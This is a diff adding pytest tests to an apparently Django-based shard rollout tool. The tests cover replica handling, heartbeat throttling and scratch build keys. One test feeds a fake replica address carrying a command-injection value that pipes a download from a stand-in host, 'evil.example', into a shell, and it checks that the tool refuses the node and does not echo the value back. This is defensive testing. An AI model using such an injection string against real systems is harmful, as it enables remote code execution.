@@ -4,10 +4,15 @@ from typing import Any
 
 import pytest
 
-from rollout.messages import Action
+from eventstore import head
+from rollout.domain.errors import UnmanagedReplicaError
+from rollout.messages import Action, Phase, ScratchLoad
 from rollout.models import ShardMember
+from rollout.process.advance import advance
+from rollout.queries.learned import build_facts
 from rollout.services.ignored_replicas import ignore_replica
 from tests.recorded_fleet import installed, join, operation, start, upload
+from tests.recorded_fleet import say as answer
 from tests.recorded_shards import beat, master_of, member, replica_of, say
 
 pytestmark = pytest.mark.django_db
@@ -94,3 +99,35 @@ def test_places_are_right_again_without_it(shard):
         row.node: (row.shard, row.master, row.replicas) for row in ShardMember.objects.exclude(node="liar")
     }
     assert start(nodes=("m", "r1", "r2"), action=Action.INSTALL, careful=ALL)
+
+
+def test_a_plan_quotes_no_command_that_it_has_written():
+    upload()
+    join("liar")
+    say(beat("liar", master_of("x;curl${ifs}evil.example|sh;echo :1")))
+    with pytest.raises(UnmanagedReplicaError) as refused:
+        start(nodes=("liar",), careful=ALL)
+    assert "`modfleet nodes ignore-replica ADDRESS --reason REASON`" in str(refused.value)
+
+
+def test_another_reason_to_wait_at_each_heartbeat():
+    upload()
+    join("liar")
+    uid = start(nodes=("liar",), careful=ALL, released=False)
+    before = head()
+    for number in range(20):
+        say(beat("liar", master_of(loading=number % 2 == 0, backups=1)))
+        advance(uid)
+    assert head() - before < 6
+
+
+def test_its_success_in_a_scratch_server_is_for_its_build_only():
+    upload()
+    upload("other", content="c9")
+    join("liar", "n2")
+    say(beat("liar"), beat("n2"))
+    uid = start(nodes=("liar",), careful=ALL)
+    answer(uid, "liar", Phase.VERIFYING, scratch=ScratchLoad(key="k" * 64))
+    other = start(nodes=("n2",), module_name="other", careful=ALL)
+    answer(other, "n2", Phase.VERIFYING, module_name="other", scratch=ScratchLoad(key="k" * 64))
+    assert build_facts(["c9"])["c9"].keys == ("k" * 64,)
